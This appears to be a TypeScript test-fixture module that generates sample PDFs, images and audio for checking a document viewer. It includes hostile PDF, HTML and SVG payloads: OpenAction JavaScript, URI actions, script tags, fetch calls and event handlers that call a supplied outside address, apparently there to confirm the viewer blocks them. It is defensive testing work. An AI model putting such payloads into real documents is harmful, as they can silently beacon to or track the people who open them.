/** Files that the frame draws, made as they are wanted. */

const blob = (text: string, type: string): Blob => new Blob([Uint8Array.from(text, (letter) => letter.charCodeAt(0))], { type });

/** Objects and trailer of a PDF; readers find the objects themselves where no table says where they are. */
const pdf = (objects: readonly string[], trailer = ''): Blob =>
  blob(['%PDF-1.7', ...objects.map((body, index) => `${index + 1} 0 obj\n${body}\nendobj`), `trailer << /Root 1 0 R ${trailer} >>`, '%%EOF'].join('\n'), 'application/pdf');

const stream = (content: string): string => `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;

/** 会议纪要 in the national encoding, as old systems write it. */
const MINUTES = '<BBE1D2E9BCCDD2AA>';

/** Pages with Latin letters of a font that is not inside, and Chinese ones by a character map that is not inside either. */
export function pdfOf(pages: number): Blob {
  const first = 6;
  const kids = Array.from({ length: pages }, (_, page) => `${first + 2 * page} 0 R`);
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids.join(' ')}] /Count ${pages} /MediaBox [0 0 595 842] /Resources << /Font << /L 3 0 R /C 4 0 R >> >> >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Font /Subtype /Type0 /BaseFont /SimSun /Encoding /GBK-EUC-H /DescendantFonts [5 0 R] >>',
    '<< /Type /Font /Subtype /CIDFontType2 /BaseFont /SimSun /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> /DW 1000 /FontDescriptor << /Type /FontDescriptor /FontName /SimSun /Flags 4 /FontBBox [0 -200 1000 900] /ItalicAngle 0 /Ascent 880 /Descent -120 /CapHeight 700 /StemV 80 >> >>',
    ...kids.flatMap((_, page) => [
      `<< /Type /Page /Parent 2 0 R /Contents ${first + 2 * page + 1} 0 R >>`,
      stream(`BT /C 32 Tf 80 720 Td ${MINUTES} Tj /L 20 Tf 0 -60 Td (Page ${page + 1}) Tj ET 80 640 435 2 re f`),
    ]),
  ]);
}

/** A password opens it that is not inside. */
export const encryptedPdf = (): Blob =>
  pdf(
    ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'],
    `/ID [<${'11'.repeat(16)}> <${'11'.repeat(16)}>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'22'.repeat(32)}> /U <${'33'.repeat(32)}> >>`,
  );

/** All that a PDF can ask a reader to do when it is opened or drawn. @param elsewhere address that must not hear of it */
export const hostilePdf = (elsewhere: string): Blob =>
  pdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${elsewhere}/script", true\\); this.submitForm\\("${elsewhere}/form"\\);) >> /AA << /WC << /S /URI /URI (${elsewhere}/close) >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 200 200] >>',
    `<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> /AA << /O << /S /URI /URI (${elsewhere}/page) >> >> /Annots [6 0 R] >>`,
    stream('q 100 0 0 100 0 0 cm /X Do Q'),
    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${elsewhere}/stream) >> /Length 0 >>\nstream\n\nendstream`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI (${elsewhere}/link) >> >>`,
  ]);

/** Something that runs and asks for something from elsewhere, as a page. */
export const hostilePage = (elsewhere: string): Blob =>
  blob(`<!doctype html><script src="${elsewhere}/script"></script><script>parent.ran = true; fetch("${elsewhere}/run")</script><img src="${elsewhere}/img" onerror="parent.ran = true"><link rel="stylesheet" href="${elsewhere}/css"><meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">`, 'text/html');

/** The same as a drawing. */
export const hostileDrawing = (elsewhere: string): Blob =>
  blob(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="parent.ran = true" width="10" height="10"><script>parent.ran = true; fetch("${elsewhere}/svg")</script><image xlink:href="${elsewhere}/image" width="9" height="9"/><style>@import url("${elsewhere}/style");</style><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${elsewhere}/foreign"/></foreignObject></svg>`, 'image/svg+xml');

/** A picture that is higher than it is wide, dark above and light below. */
export function bitmap(width: number, height: number): Blob {
  const row = Math.ceil((width * 3) / 4) * 4;
  const bytes = new DataView(new ArrayBuffer(54 + row * height));
  bytes.setUint16(0, 0x424d);
  [[2, 54 + row * height], [10, 54], [14, 40], [18, width], [22, height], [34, row * height]].forEach(([at, value]) => bytes.setUint32(at!, value!, true));
  bytes.setUint16(26, 1, true);
  bytes.setUint16(28, 24, true);
  for (let y = 0; y < height; y++) for (let x = 0; x < width * 3; x++) bytes.setUint8(54 + y * row + x, 230 - (180 * y) / height);
  return new Blob([bytes], { type: 'image/bmp' });
}

/** A second of a tone. */
export function tone(): Blob {
  const rate = 8000;
  const bytes = new DataView(new ArrayBuffer(44 + rate));
  ([[0, 'RIFF'], [8, 'WAVEfmt '], [36, 'data']] as const).forEach(([at, name]) => [...name].forEach((letter, i) => bytes.setUint8(at + i, letter.charCodeAt(0))));
  [[4, 36 + rate], [16, 16], [24, rate], [28, rate], [40, rate]].forEach(([at, value]) => bytes.setUint32(at!, value!, true));
  [[20, 1], [22, 1], [32, 1], [34, 8]].forEach(([at, value]) => bytes.setUint16(at!, value!, true));
  for (let i = 0; i < rate; i++) bytes.setUint8(44 + i, 128 + 60 * Math.sin((i * 2 * Math.PI * 440) / rate));
  return new Blob([bytes], { type: 'audio/wav' });
}
